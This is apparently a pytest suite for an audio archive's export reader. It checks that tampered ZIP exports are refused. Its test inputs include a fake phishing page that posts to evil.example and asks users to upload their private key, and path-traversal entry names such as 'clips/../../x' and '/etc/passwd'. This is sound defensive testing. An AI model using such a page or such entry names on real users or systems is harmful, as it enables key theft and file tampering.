"""The reader of exports against changed and forged ones."""

import contextlib
import hashlib
import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from listener.clips.exports import ExportReader, parse_lines, raw_lines
from listener.envelope import keys
from listener.errors import EarmarkError, Unavailable

if TYPE_CHECKING:
    from listener.archive.context import ArchiveContext
    from tests.clips.conftest import Machine, Sounding

pytestmark = pytest.mark.system  # a real archive makes each export

EVIL_PAGE = b"<form action=http://evil.example/><input type=file>Upload your me.key"

Entries = dict[str, bytes]
Check = Callable[[bytes], int]


@pytest.fixture
def whole(ada: "Machine", shelf: "Sounding", tmp_path: Path) -> bytes:
    for second in range(2):
        shelf.put(t=f"2026-11-22T08:00:0{second}.000Z")
    target = tmp_path / "ada.zip"
    ada.rows("export", "--to", target)
    return target.read_bytes()


@pytest.fixture
def check(tmp_path: Path, context: "ArchiveContext") -> Check:
    """Read all of an export; return how many clips it holds."""

    def read(data: bytes) -> int:
        path = tmp_path / "read.zip"
        path.write_bytes(data)
        with ExportReader(path, context.key.public_key()) as export:
            export.check_log([])
            devices = {name: keys.parse_device(text) for name, text in export.devices.items()}
            return sum(1 for _ in export.clips(devices))

    return read


def entries_of(data: bytes) -> Entries:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def pack(entries: Entries, compression: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(zipfile.ZipInfo(name), data, compression)
    return buffer.getvalue()


def first_clip(entries: Entries) -> str:
    return min(name for name in entries if name.startswith("clips/"))


def without(name: str) -> Callable[[Entries], Entries]:
    return lambda entries: {other: data for other, data in entries.items() if other != name}


def swap_clips(entries: Entries) -> Entries:
    first, second = sorted(name for name in entries if name.startswith("clips/"))
    return entries | {first: entries[second], second: entries[first]}


def without_contents_signature(entries: Entries) -> Entries:
    receipt = json.loads(entries["receipt.json"])
    del receipt["contents_signature"]
    return entries | {"receipt.json": json.dumps(receipt).encode()}


def repeat_line(entries: Entries) -> Entries:
    manifest = entries["manifest.jsonl"]
    return entries | {"manifest.jsonl": manifest + manifest.splitlines(keepends=True)[0]}


def test_complete_export_is_read(whole: bytes, check: Check) -> None:
    assert check(whole) == 2
    assert check(pack(entries_of(whole))) == 2


@pytest.mark.parametrize(
    "change",
    [
        without("receipt.json"),
        without("manifest.jsonl"),
        without("READ-ME-FIRST.html"),
        lambda entries: without(first_clip(entries))(entries),
        lambda entries: entries | {first_clip(entries): b"rubbish"},
        lambda entries: entries | {first_clip(entries): bytes(2 << 20)},
        lambda entries: entries | {"clips/../../x": b""},
        lambda entries: entries | {"/etc/passwd": b""},
        lambda entries: entries | {"manifest.jsonl": b""},
        lambda entries: entries | {"manifest.jsonl": b"{}\n"},
        lambda entries: entries | {"manifest.jsonl": b"x" * 9000},
        lambda entries: entries | {"devices.json": b"[]"},
        lambda entries: entries | {"devices.json": b'{"hall":"x"}'},
        lambda entries: entries | {"devices.json": b"{}"},
        lambda entries: entries | {"access-log.jsonl": b""},
        lambda entries: entries | {"access-log.jsonl": b"null\n"},
        lambda entries: entries | {"receipt.json": b"{}"},
        lambda entries: (
            entries | {"receipt.json": entries["receipt.json"].replace(b'"count":2', b'"count":1')}
        ),
        lambda entries: entries | {"READ-ME-FIRST.html": EVIL_PAGE},
        lambda entries: entries | {"read-me-first.html": EVIL_PAGE},
        lambda entries: entries | {"clips/READ-ME-FIRST.html": EVIL_PAGE},
        lambda entries: entries | {"clips/index.html": EVIL_PAGE},
        lambda entries: entries | {first_clip(entries).upper(): b""},
        lambda entries: entries | {"index.html": EVIL_PAGE},
        lambda entries: entries | {"devices.json": b" " + entries["devices.json"]},
        lambda entries: entries | {"access-log.jsonl": entries["access-log.jsonl"] + b"\n"},
        lambda entries: entries | {"receipt.json": b'{"receipt":{},' + entries["receipt.json"][1:]},
        without_contents_signature,
        swap_clips,
        repeat_line,
    ],
)
def test_changed_export_is_refused(
    whole: bytes, check: Check, change: Callable[[Entries], Entries]
) -> None:
    with pytest.raises(EarmarkError):
        check(pack(change(entries_of(whole))))


def test_compressed_export_is_refused(whole: bytes, check: Check) -> None:
    with pytest.raises(EarmarkError, match="compressed"):
        check(pack(entries_of(whole), zipfile.ZIP_DEFLATED))


@settings(max_examples=200, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_damaged_export_raises_one_error(whole: bytes, check: Check, data: st.DataObject) -> None:
    damaged = bytearray(whole)
    # Near the end, where a ZIP has its lengths and offsets, and anywhere.
    span = data.draw(st.sampled_from([len(whole), 400]))
    for _ in range(data.draw(st.integers(1, 4))):
        damaged[-data.draw(st.integers(1, span))] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(0, len(whole)))

    for variant in (bytes(damaged), whole[:cut], whole[cut:]):
        with contextlib.suppress(EarmarkError):
            check(variant)


def test_missing_export_is_unavailable(tmp_path: Path, context: "ArchiveContext") -> None:
    with pytest.raises(Unavailable, match="cannot read"):
        ExportReader(tmp_path / "nowhere", context.key.public_key())


@given(st.binary())
def test_lines_are_objects_or_one_error(data: bytes) -> None:
    with contextlib.suppress(EarmarkError):
        assert all(isinstance(fields, dict) for fields in parse_lines(raw_lines(io.BytesIO(data))))


def test_receipt_counts_the_clips(whole: bytes) -> None:
    assert json.loads(entries_of(whole)["receipt.json"])["receipt"]["count"] == 2


def of_older_archive(entries: Entries) -> Entries:
    """The same export by an archive that signs no list of files."""
    receipt = json.loads(entries["receipt.json"])
    older = {name: receipt[name] for name in ("receipt", "signature")}
    return entries | {"receipt.json": json.dumps(older).encode()}


def test_receipt_of_an_export_covers_every_file(
    whole: bytes, tmp_path: Path, context: "ArchiveContext"
) -> None:
    entries = entries_of(whole)
    receipt = json.loads(entries["receipt.json"])
    hashes = {
        name: hashlib.sha256(data).hexdigest()
        for name, data in entries.items()
        if name != "receipt.json" and not name.startswith("clips/")
    }
    (tmp_path / "whole.zip").write_bytes(whole)

    assert receipt["contents"]["files"] == hashes
    assert receipt["receipt"]["manifest_sha256"] == hashes["manifest.jsonl"]
    with ExportReader(tmp_path / "whole.zip", context.key.public_key()) as export:
        assert export.is_covered


def test_export_of_an_older_archive_is_read(
    whole: bytes, tmp_path: Path, context: "ArchiveContext", check: Check
) -> None:
    data = pack(of_older_archive(entries_of(whole)))
    (tmp_path / "older.zip").write_bytes(data)

    assert check(data) == 2
    with ExportReader(tmp_path / "older.zip", context.key.public_key()) as export:
        assert not export.is_covered


def test_page_of_an_older_archive_must_be_known(whole: bytes, check: Check) -> None:
    entries = of_older_archive(entries_of(whole)) | {"READ-ME-FIRST.html": EVIL_PAGE}

    with pytest.raises(EarmarkError, match="not a page that Earmark writes") as caught:
        check(pack(entries))
    assert caught.value.hint.startswith("do not open it")


def test_signed_list_of_another_export_is_refused(
    whole: bytes, check: Check, ada: "Machine", shelf: "Sounding", tmp_path: Path
) -> None:
    shelf.put(t="2026-11-22T08:00:09.000Z")
    ada.rows("export", "--to", tmp_path / "second.zip")
    other = json.loads(entries_of((tmp_path / "second.zip").read_bytes())["receipt.json"])
    entries = entries_of(whole)
    mixed = json.loads(entries["receipt.json"]) | {
        name: other[name] for name in ("contents", "contents_signature")
    }

    with pytest.raises(EarmarkError, match="of another export"):
        check(pack(entries | {"receipt.json": json.dumps(mixed).encode()}))


def test_unknown_page_that_the_archive_signed_is_refused(
    ada: "Machine", shelf: "Sounding", tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shelf.put()
    monkeypatch.setattr("listener.archive.export.EXPORT_PAGE", EVIL_PAGE.decode())

    done = ada.clips("export", "--to", tmp_path / "ada.zip", "--open", tmp_path / "clips")

    assert done.code == 1
    assert "READ-ME-FIRST.html" in done.err
    assert not (tmp_path / "ada.zip").exists()
    assert not (tmp_path / "clips").exists()


def test_verify_says_that_an_older_archive_signed_no_page(
    whole: bytes, ada: "Machine", tmp_path: Path
) -> None:
    (tmp_path / "older.zip").write_bytes(pack(of_older_archive(entries_of(whole))))

    older = ada.run("verify", tmp_path / "older.zip")
    newer = ada.run("verify", tmp_path / "ada.zip")

    assert older.code == newer.code == 0
    assert "this archive did not sign it" in older.out
    assert "did not sign" not in newer.out
    assert ada.run("verify", tmp_path / "older.zip", "--json").rows()[0]["all_signed"] is False
